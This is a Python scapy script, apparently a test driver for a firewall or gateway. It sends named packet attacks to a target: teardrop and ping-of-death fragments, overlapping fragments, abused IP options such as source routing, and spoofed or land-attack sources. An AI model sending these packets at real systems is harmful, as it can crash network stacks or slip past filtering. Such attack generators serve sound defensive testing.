#!/usr/bin/python3
"""Packets of attackers that no tool at hand makes, by scapy, out of one interface to a gateway.

Reads lines from standard input, sends what each names, and says "sent N" with the number of frames; ends with its input.
usage: real_attacker.py INTERFACE GATEWAY-MAC OWN-ADDRESS TARGET
"""
import sys

from scapy.layers.inet import ICMP, IP, TCP, UDP, IPOption
from scapy.layers.l2 import Ether
from scapy.packet import Raw
from scapy.sendrecv import sendp

FRAGMENTS_OF_DEATH = 64  # of 1024 octets: the last one ends at 65556 with its header


def fragment(own, target, protocol, identification, offset, octets, more):
    """=> offset and, where more follow, octets are multiples of 8"""
    return IP(src=own, dst=target, proto=protocol, id=identification, frag=offset // 8, flags="MF" if more else 0) / Raw(octets)


def with_options(own, target, octets):
    return IP(src=own, dst=target, options=[IPOption(bytes(octets))]) / ICMP(id=77) / Raw(b"options")


def death(own, target, identification):
    """ICMP in fragments none of which is large as a packet; the first of them ends at 1044."""
    return [fragment(own, target, 1, identification, 1024 * n, b"\0" * 1024, n < FRAGMENTS_OF_DEATH - 1) for n in range(FRAGMENTS_OF_DEATH)]


def teardrop(own, target, identification):
    """36 octets, and 4 that begin within them."""
    return [fragment(own, target, 17, identification, 0, bytes(UDP(sport=7, dport=7, len=72)) + b"t" * 24, True),
            fragment(own, target, 17, identification, 24, b"d" * 4, False)]


def attacks(own, target):
    syn = bytes(TCP(sport=4000, dport=80, flags="S"))
    whole = bytes(IP(bytes(IP(src=own, dst=target) / TCP(sport=4000, dport=80, flags="S")))[TCP])
    return {
        "teardrop": teardrop(own, target, 100),
        "teardrop, the last first": teardrop(own, target, 101)[::-1],
        "ping of death": death(own, target, 110),
        "ping of death, the last first": death(own, target, 111)[::-1],
        "ICMP in fragments": [fragment(own, target, 1, 120, 0, bytes(ICMP(id=5)) + b"f" * 24, True),
                              fragment(own, target, 1, 120, 32, b"f" * 8, False)],
        "UDP in fragments": [fragment(own, target, 17, 121, 0, bytes(UDP(sport=7, dport=7, len=40)) + b"f" * 24, True),
                             fragment(own, target, 17, 121, 32, b"f" * 8, False)],
        "a SYN in fragments": [fragment(own, target, 6, 130, 0, whole + b"x" * 4, True), fragment(own, target, 6, 130, 24, b"x" * 8, False)],
        "a SYN in fragments of 16 octets": [fragment(own, target, 6, 131, 0, syn[:16], True), fragment(own, target, 6, 131, 16, syn[16:], False)],
        "record route": [with_options(own, target, [7, 7, 4, 0, 0, 0, 0, 0])],
        "timestamp": [with_options(own, target, [0x44, 8, 5, 0, 0, 0, 0, 0])],
        "security": [with_options(own, target, [0x82, 11] + [0] * 10)],
        "stream": [with_options(own, target, [0x88, 4, 0, 9])],
        "loose source route": [with_options(own, target, [0x83, 7, 4, 10, 9, 9, 9, 0])],
        "strict source route": [with_options(own, target, [0x89, 7, 4, 10, 9, 9, 9, 0])],
        "an option beyond the header": [with_options(own, target, [0x82, 40, 0, 0])],
        "an option of no length": [with_options(own, target, [7, 0, 0, 0])],
        "a source of the servers' zone": [IP(src="10.2.2.9", dst=target) / ICMP(id=78)],
        "a source without route": [IP(src="203.0.113.5", dst=target) / ICMP(id=79)],
        "from the target itself": [IP(src=target, dst=target) / TCP(sport=80, dport=80, flags="S")],
    }


def main():
    interface, gateway, own, target = sys.argv[1:]
    known = attacks(own, target)
    for line in sys.stdin:
        packets = known[line.strip()]
        sendp([Ether(dst=gateway) / packet for packet in packets], iface=interface, verbose=False)
        print(f"sent {len(packets)}", flush=True)


if __name__ == "__main__":
    main()
